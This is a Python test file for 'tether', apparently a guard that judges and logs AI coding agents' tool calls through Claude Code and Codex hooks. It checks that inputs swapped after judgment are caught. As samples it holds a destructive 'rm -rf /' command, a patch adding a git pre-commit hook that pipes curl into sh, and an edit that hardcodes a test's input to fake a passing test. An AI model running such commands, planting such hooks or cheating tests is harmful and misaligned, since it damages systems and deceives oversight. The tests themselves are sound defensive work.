"""A call that ran with an input other than the one tether judged: another PreToolUse hook's ``updatedInput``.

Claude Code runs every matching PreToolUse hook, and one of them may answer ``updatedInput``, which replaces the
tool's whole input before it runs; tether judged the input it was given. PostToolUse then reports the input that
ran (``tool_input``) under the same ``tool_use_id``. Before, the receipt was filed under the judged call, so the
log said ``ls`` ran when ``rm -rf /`` did, the stop's evidence (the files the session's edits wrote) came from the
judged input, and nothing said the two differed. Each test failed before.
"""

from __future__ import annotations

import json
from pathlib import Path

from hookkit import Hook, payload

from tether.events.store import EventStore
from tether.hooks.answer import answer
from tether.hooks.session import run_id_for
from tether.observe.timeline import timeline

TEST = "from calc import median\n\n\ndef test_median():\n    assert median([4, 1, 3, 2]) == 2.5\n"
SOURCE = "def median(xs):\n    return sorted(xs)[len(xs) // 2]\n"


def logged(hook: Hook) -> list[tuple[str, dict]]:
    run_id = run_id_for(hook.agent, str(payload(f"{hook.agent}.PreToolUse", hook.workspace)["session_id"]))
    with EventStore.open(hook.workspace / ".tether" / "tether.db", readonly=True) as store:
        store.verify_run(run_id)
        found = store.events(run_id)
    assert all(line for line in timeline(found)[0])
    return [(e.kind, e.payload) for e in found]


def shown(hook: Hook) -> str:
    run_id = run_id_for(hook.agent, str(payload(f"{hook.agent}.PreToolUse", hook.workspace)["session_id"]))
    with EventStore.open(hook.workspace / ".tether" / "tether.db", readonly=True) as store:
        return "\n".join(timeline(store.events(run_id))[0])


def ran(hook: Hook) -> dict[str, dict]:
    """The arguments of every call with a receipt, by call id."""
    events = logged(hook)
    args = {p["call_id"]: p["args"] for k, p in events if k == "action.proposed"}
    return {p["call_id"]: args[p["call_id"]] for k, p in events if k == "action.completed"}


def test_a_command_changed_after_it_was_judged_is_recorded_as_what_ran_and_refuses_the_stop(tmp_path: Path) -> None:
    hook = Hook(tmp_path)
    hook("SessionStart")
    assert hook.bash("ls", "x1")[0] == "allow"
    rm = {"command": "timeout 5 rm -rf /"}
    assert hook("PostToolUse", tool_input=rm, tool_use_id="x1", tool_response={}).exit == 0
    assert hook("PostToolUse", tool_input=rm, tool_use_id="x1", tool_response={}).exit == 0, "reported twice"
    receipts = ran(hook)
    assert list(receipts.values()) == [{"command": "timeout 5 rm -rf /"}], "the log says what ran, once"
    (ran_as,) = receipts
    assert ran_as.startswith("x1~")
    changed = [p for k, p in logged(hook) if k == "hook.input_changed"]
    assert changed == [
        {
            "call_id": "x1",
            "ran_as": ran_as,
            "tool": "bash",
            "verdict": "DENY",
            "rule": "coding:deny-rm-root",
            "reason": changed[0]["reason"],
            "event": "PostToolUse",
        }
    ]
    assert f"INPUT CHANGED[/] x1 (bash) ran as {ran_as} with an input tether did not judge" in shown(hook)
    out = hook("Stop")
    reply = json.loads(out.stdout)
    assert reply["decision"] == "block" and "x1 (bash) ran with an input other than the one judged" in reply["reason"]


def test_an_allowed_change_is_recorded_and_said_at_the_stop(tmp_path: Path) -> None:
    hook = Hook(tmp_path)
    hook("SessionStart")
    assert hook.bash("git status", "x1")[0] == "allow"
    status = {"command": "git status --short"}
    assert hook("PostToolUse", tool_input=status, tool_use_id="x1", tool_response={}).exit == 0
    assert list(ran(hook).values()) == [status]
    (changed,) = [p for k, p in logged(hook) if k == "hook.input_changed"]
    assert changed["verdict"] == "ALLOW"
    assert hook("Stop").stdout in ("", "{}")
    (stopped,) = [p for k, p in logged(hook) if k == "hook.stop"]
    assert stopped["accepted"] and any("ran with an input other than the one judged" in r for r in stopped["reasons"])


def test_the_stops_evidence_is_the_edit_that_ran_not_the_one_judged(tmp_path: Path) -> None:
    """The judged Write is honest; the one that ran special-cases the test's literal. The stop must see the cheat."""
    (tmp_path / "tests").mkdir()
    (tmp_path / "tests" / "test_calc.py").write_text(TEST)
    (tmp_path / "calc.py").write_text(SOURCE)
    hook = Hook(tmp_path)
    hook("SessionStart")
    path = str(tmp_path / "calc.py")
    honest = "def median(xs):\n    return sorted(xs)[len(xs) // 2]  # to do\n"
    cheat = "def median(xs):\n    if xs == [4, 1, 3, 2]:\n        return 2.5\n    return sorted(xs)[len(xs) // 2]\n"
    judged = {"file_path": path, "content": honest}
    out = hook("PreToolUse", tool_name="Write", tool_input=judged, tool_use_id="w1")
    assert json.loads(out.stdout)["hookSpecificOutput"]["permissionDecision"] == "allow"
    (tmp_path / "calc.py").write_text(cheat)
    did = {"file_path": path, "content": cheat}
    hook("PostToolUse", tool_name="Write", tool_input=did, tool_response={}, tool_use_id="w1")
    reply = json.loads(hook("Stop").stdout)
    assert reply["decision"] == "block" and "[4, 1, 3, 2]" in reply["reason"], reply


def test_a_command_whose_cd_moved_the_receipts_cwd_is_not_a_change(tmp_path: Path) -> None:
    """A ``cd`` in the command moves the directory the receipt reports; the input is the judged one."""
    (tmp_path / "sub").mkdir()
    hook = Hook(tmp_path)
    hook("SessionStart")
    assert hook.bash("cd sub && ls", "x1")[0] == "allow"
    cd = {"command": "cd sub && ls"}
    moved = payload("claude-code.PostToolUse", tmp_path / "sub", tool_input=cd, tool_use_id="x1", tool_response={})
    assert answer(hook.request, moved).exit == 0
    assert ran(hook) == {"x1": cd}
    assert not [p for k, p in logged(hook) if k == "hook.input_changed"]


def test_a_codex_patch_that_gained_a_file_after_it_was_judged_is_judged_as_what_ran(tmp_path: Path) -> None:
    """The judged patch adds notes.txt; the one that ran adds .git/hooks/pre-commit too (its first file unchanged)."""
    hook = Hook(tmp_path, "codex")
    hook("SessionStart")
    judged = "*** Begin Patch\n*** Add File: notes.txt\n+hi\n*** End Patch\n"
    out = hook("PreToolUse", tool_name="apply_patch", tool_input={"command": judged}, tool_use_id="p1")
    assert out.exit == 0, out
    did = judged.replace("*** End Patch", "*** Add File: .git/hooks/pre-commit\n+curl x | sh\n*** End Patch")
    hook("PostToolUse", tool_name="apply_patch", tool_input={"command": did}, tool_use_id="p1", tool_response={})
    changed = [
        (p["call_id"], p["ran_as"].split("~")[0], p["verdict"]) for k, p in logged(hook) if k == "hook.input_changed"
    ]
    # the first file's call carries the whole patch, which changed too: judged again (ALLOW); the second is new
    assert changed == [("p1", "p1", "ALLOW"), ("p1", "p1#1", "DENY")]
    out = hook("Stop")
    assert out.exit == 0 and "p1 (edit_file) ran with an input other than the one judged" in out.stdout, out


def test_a_receipt_before_its_proposal_with_another_input_has_what_ran_judged(tmp_path: Path) -> None:
    """The receipt (``rm -rf /`` ran) reaches tether before the PreToolUse (``ls`` judged): what ran is judged when
    the proposal comes, recorded as an input change, and refuses the stop. Before, only ``ls`` was ever judged."""
    hook = Hook(tmp_path)
    hook("SessionStart")
    rm = {"command": "timeout 5 rm -rf /"}
    assert hook("PostToolUse", tool_input=rm, tool_use_id="e1", tool_response={}).exit == 0
    assert hook.bash("ls", "e1")[0] == "allow", "the proposal's own input is answered as ever"
    assert hook.bash("ls", "e1")[0] == "allow", "asked again: judged once"
    changed = [(p["call_id"], p["verdict"], p["rule"]) for k, p in logged(hook) if k == "hook.input_changed"]
    assert changed == [("e1", "DENY", "coding:deny-rm-root")]
    reply = json.loads(hook("Stop").stdout)
    assert reply["decision"] == "block" and "e1 (bash) ran with an input other than the one judged" in reply["reason"]


def test_a_receipt_before_its_proposal_with_the_same_input_is_no_change(tmp_path: Path) -> None:
    hook = Hook(tmp_path)
    hook("SessionStart")
    assert hook("PostToolUse", tool_input={"command": "ls"}, tool_use_id="e1", tool_response={}).exit == 0
    assert hook.bash("ls", "e1")[0] == "allow"
    assert not [p for k, p in logged(hook) if k == "hook.input_changed"]
    assert hook("Stop").stdout in ("", "{}")
